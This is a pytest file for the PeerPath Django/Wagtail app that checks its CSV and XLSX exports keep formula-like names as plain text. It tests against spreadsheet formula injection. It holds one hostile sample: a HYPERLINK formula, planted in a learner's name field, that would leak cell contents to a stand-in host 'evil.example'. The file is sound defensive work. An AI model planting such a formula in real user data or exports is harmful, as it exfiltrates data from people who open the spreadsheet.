"""Every spreadsheet export keeps a formula-like value as text, in CSV and in XLSX: a learner who
names themselves "=HYPERLINK(…)" gets a leading apostrophe, never a live formula or link."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets

from peerpath.spreadsheets import FormulaSafeExportMixin
from peerpath.training import progress
from tests.certificates.factories import CertificateFactory
from tests.factories import UserFactory

from .factories import LogEntryFactory

pytestmark = pytest.mark.django_db

# PeerPath's modules and app labels, and the demo site's.
PEERPATH_MODULES = ("peerpath.", "home.")
PEERPATH_LABELS = ("peerpath", "home")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
AS_TEXT = "'" + FORMULA


@pytest.fixture
def formula_learner():
    return UserFactory(first_name=FORMULA, last_name="")


def content_of(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(content_of(response).decode())))


def xlsx_column(response, heading):
    """The cells below `heading` in the export's first sheet."""
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
    header, *rows = list(sheet.iter_rows())
    column = [cell.value for cell in header].index(heading)
    return [row[column] for row in rows]


def assert_text(cells, expected=AS_TEXT):
    assert [cell.value for cell in cells] == [expected]
    assert all(cell.data_type == "s" for cell in cells)


def test_facilitation_report_csv_keeps_a_formula_name_as_text(
    client, staff_user, formula_learner, workshop
):
    LogEntryFactory(facilitator=formula_learner, workshop=workshop)
    client.force_login(staff_user)
    response = client.get(reverse("workshops_facilitation_report"), {"export": "csv"})
    assert [row["Facilitator"] for row in csv_rows(response)] == [AS_TEXT]


def test_facilitation_report_xlsx_keeps_a_formula_name_as_text(
    client, staff_user, formula_learner, workshop
):
    LogEntryFactory(facilitator=formula_learner, workshop=workshop)
    client.force_login(staff_user)
    response = client.get(reverse("workshops_facilitation_report"), {"export": "xlsx"})
    assert_text(xlsx_column(response, "Facilitator"))


def test_certificate_list_xlsx_keeps_a_formula_name_as_text(client, staff_user, formula_learner):
    CertificateFactory(holder=formula_learner, holder_name=FORMULA)
    client.force_login(staff_user)
    response = client.get(reverse("certificates_admin:index"), {"export": "xlsx"})
    assert_text(xlsx_column(response, "Holder name"))


def test_progress_report_xlsx_keeps_a_formula_name_as_text(
    client, staff_user, formula_learner, programme
):
    progress.enrol(formula_learner, programme)
    client.force_login(staff_user)
    response = client.get(reverse("certificates_admin:progress"), {"export": "xlsx"})
    assert_text(xlsx_column(response, "Learner"))


def subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from subclasses(subclass)


def test_every_peerpath_export_escapes_its_cells(client, staff_user):
    """A new export (a report view, or a viewset with `list_export`) must mix in
    `FormulaSafeExportMixin`, or `ValuesExportMixin` which includes it."""
    client.force_login(staff_user)
    client.get(reverse("wagtailadmin_home"))  # loads every app's admin views and viewsets
    views = [
        view
        for view in subclasses(SpreadsheetExportMixin)
        if view.__module__.startswith(PEERPATH_MODULES) and view.list_export
    ]
    views += [
        viewset.index_view_class
        for viewset in viewsets.viewsets
        # Unset, a viewset's list_export is a placeholder object rather than a list.
        if isinstance(getattr(viewset, "list_export", None), list | tuple)
        and viewset.list_export
        and getattr(viewset, "model", None) is not None
        and viewset.model._meta.app_label.startswith(PEERPATH_LABELS)
    ]
    assert views
    assert [view for view in views if not issubclass(view, FormulaSafeExportMixin)] == []
